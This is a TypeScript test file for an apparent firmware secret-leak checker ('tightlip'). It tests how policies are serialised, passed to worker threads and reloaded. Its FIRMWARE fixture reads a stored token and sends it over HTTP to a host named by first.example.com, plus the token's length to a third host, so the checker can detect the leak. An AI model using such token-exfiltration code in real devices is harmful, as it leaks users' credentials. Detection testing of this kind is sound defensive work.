import { once } from "node:events";
import { dirname, join } from "node:path";
import { pathToFileURL } from "node:url";
import { Worker } from "node:worker_threads";
import { describe, expect, it } from "vitest";
import { applianceAt, appliancesIn } from "../../src/subjects/appliance.ts";
import { fileAt } from "../../src/subjects/definitions/definition.ts";
import { type FunctionName, livePolicy, plainPolicy } from "../../src/subjects/policy-data.ts";
import { type LoadedPolicy, loadPolicy } from "../../src/subjects/policy-file.ts";
import { AS_DECLARED, type CheckedAppliance, checkAppliance } from "../../src/tasks/check-appliance.ts";
import { UserError } from "../../src/user-error.ts";
import { REPOSITORY } from "../cli/cli.ts";
import { tempProject } from "../compile/temp-project.ts";
import { SOAK } from "../soak.ts";

const DIST = pathToFileURL(join(REPOSITORY, "dist/src")).href;
/** Of the policies of the repository, one of so many is tried; `npm run soak` tries all. */
const EVERY = SOAK ? 1 : 25;

/** Sends the token to the host that the first one names, and its checksum to a third. */
const FIRMWARE = `import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
const token = await readSetting("token", "");
const next = await (await fetch("http://first.example.com/next")).text();
await fetch("http://" + next + "/" + token);
await fetch("http://third.example.com/" + token.length);
`;

const POLICY = `import { definePolicy } from "tightlip";
export default definePolicy({
  servers: {
    "first.example.com": ({ target }) => ({ status: 200, body: target === "/next" ? "second.example.com" : "lost" }),
    "*": () => ({ status: 204, body: "" }),
  },
  releases: [
    {
      name: "token-length",
      secret: "settings.token",
      observer: "endpoint",
      channel: "http",
      to: "third.example.com",
      why: "it is asked for",
      computes: (value) => [String(value.length)],
    },
  ],
});
`;

async function loaded(): Promise<{ main: string; policy: LoadedPolicy }> {
  const main = join(tempProject({ "src/main.ts": FIRMWARE, "src/main.policy.ts": POLICY }), "src/main.ts");
  return { main, policy: await loadPolicy(applianceAt(main)) };
}

async function inThread(workerData: object): Promise<CheckedAppliance> {
  const worker = new Worker(new URL("policy-worker.mjs", import.meta.url), { workerData });
  const [result] = await once(worker, "message");
  await worker.terminate();
  return result;
}

/** The policy with texts in place of functions. */
function printed({ policy }: LoadedPolicy): unknown {
  return JSON.parse(
    JSON.stringify(policy, (_, value) => (typeof value === "function" ? String(value) : value)),
  );
}

describe("a policy as plain data", () => {
  it("names its functions by module and place", async () => {
    const { policy } = await loaded();
    const data = plainPolicy(policy);
    const module = policy.fileOf("servers");
    expect(module.path).toMatch(/main\.policy\.ts$/);
    expect(data.policy.servers).toEqual({
      "first.example.com": { module, path: ["servers", "first.example.com"] },
      "*": { module, path: ["servers", "*"] },
    });
    expect(data.policy.releases![0].computes).toEqual({ module, path: ["releases", "0", "computes"] });
  });

  it("judges the same when it has been sent to another thread", async () => {
    const { main, policy } = await loaded();
    const appliance = applianceAt(main);
    const request = { ...AS_DECLARED, virtualMicros: 10_000_000, evidence: true };
    const here = checkAppliance(appliance, policy, request);
    const there = await inThread({ dist: DIST, appliance, policy: plainPolicy(policy), request });
    expect(there).toEqual(here);
    const { report } = there;
    if (report.kind !== "firmware") throw new Error(report.message);
    // Only the server says whom the token goes to.
    expect(report.verdict.findings.map(({ to }) => to)).toContain("second.example.com:80");
  });

  it("comes back from JSON as it was, for the policies of the repository", { timeout: 300_000 }, async () => {
    const appliances = appliancesIn("devs").filter(({ policy }) => policy !== null);
    const tried = appliances.filter((_, i) => i % EVERY === 0);
    expect(tried.length).toBeGreaterThan(3);
    for (const appliance of tried) {
      const policy = await loadPolicy(appliance);
      const data = JSON.parse(JSON.stringify(plainPolicy(policy)));
      expect(data).toEqual(structuredClone(plainPolicy(policy)));
      expect(printed(await livePolicy(data))).toEqual(printed(policy));
    }
  });

  it("names a function that a config holds by the config", async () => {
    const main = join(
      tempProject({
        "src/main.ts": FIRMWARE,
        "tightlip.config.ts": 'export default { servers: { "*": () => ({ status: 204, body: "" }) } };\n',
      }),
      "src/main.ts",
    );
    const policy = await loadPolicy(applianceAt(main));
    const data = plainPolicy(policy);
    expect(data.policy.servers!["*"]).toMatchObject({
      module: { path: join(dirname(dirname(main)), "tightlip.config.ts") },
    });
    expect(printed(await livePolicy(data))).toEqual(printed(policy));
  });

  it.each([
    ["a function that is not there", { path: ["servers", "other.example.com"] }, "servers.other.example.com"],
    ["a module that is not there", { module: fileAt("no/such.policy.ts") }, "cannot be loaded"],
  ])("is refused in one line with %s", async (_, change, complaint) => {
    const { policy } = await loaded();
    const data = plainPolicy(policy);
    const servers = { "*": { ...(data.policy.servers!["*"] as FunctionName), ...change } };
    const error = await livePolicy({ ...data, policy: { ...data.policy, servers } }).catch((e) => e);
    expect(error).toBeInstanceOf(UserError);
    expect(error.message).toContain(complaint);
    expect(error.message).not.toContain("\n");
  });
});
